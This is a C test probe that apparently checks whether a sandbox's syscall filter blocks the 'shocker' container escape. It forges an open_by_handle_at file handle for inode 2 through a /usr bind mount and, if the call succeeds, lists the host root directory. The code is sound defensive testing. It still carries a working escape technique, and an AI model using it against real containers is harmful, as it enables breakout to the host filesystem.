/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The "shocker" escape: open_by_handle_at opens any inode of a filesystem
 * from a handle, bypassing every mount and path check; a forged handle for
 * inode 2 of the filesystem behind a bind mount (/usr) opens the host
 * filesystem's root. Needs CAP_DAC_READ_SEARCH; refused by the filter.
 * name_to_handle_at only makes handles and may be allowed; it is reported.
 */
#define PROBE_NAME "open_by_handle"
#include "probe.h"

#include <dirent.h>

/* An ext4/xfs-style FILEID_INO32_GEN handle: inode 2, generation 0. */
struct forged_handle {
        unsigned int handle_bytes;
        int handle_type;
        uint32_t ino, gen;
};

static void list_entries(int fd, char *out, size_t len)
{
        DIR *d = fdopendir(fd);
        struct dirent *e;
        size_t used = 0;

        out[0] = '\0';
        if (!d)
                return;
        while ((e = readdir(d)) && used + strlen(e->d_name) + 2 < len)
                used += (size_t)snprintf(out + used, len - used, "%s ", e->d_name);
        closedir(d);
}

int main(void)
{
        struct {
                struct file_handle fh;
                unsigned char bytes[MAX_HANDLE_SZ];
        } h;
        struct forged_handle forged = {.handle_bytes = 8, .handle_type = 1, .ino = 2, .gen = 0};
        int mount_id, mount_fd, fd;
        char entries[256];

        mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (mount_fd < 0)
                mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (mount_fd < 0)
                probe_error("open /usr and /: %s", probe_errno_name(errno));

        h.fh.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(mount_fd, "bin", &h.fh, &mount_id, 0) < 0) {
                probe_note("name_to_handle_at(/usr/bin): %s", probe_errno_name(errno));
        } else {
                probe_note("name_to_handle_at(/usr/bin) allowed (type %d)", h.fh.handle_type);
                fd = PROBE_EXPECT_FAIL("open_by_handle_at(/usr/bin handle)",
                                       open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_CLOEXEC));
                if (fd >= 0)
                        close(fd);
        }
        fd = open_by_handle_at(mount_fd, (struct file_handle *)&forged, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
                list_entries(fd, entries, sizeof entries);
                probe_escape("open_by_handle_at(forged inode 2) opened the filesystem root: %s", entries);
        } else {
                probe_note("open_by_handle_at(forged inode 2): %s", probe_errno_name(errno));
        }
        probe_finish();
}
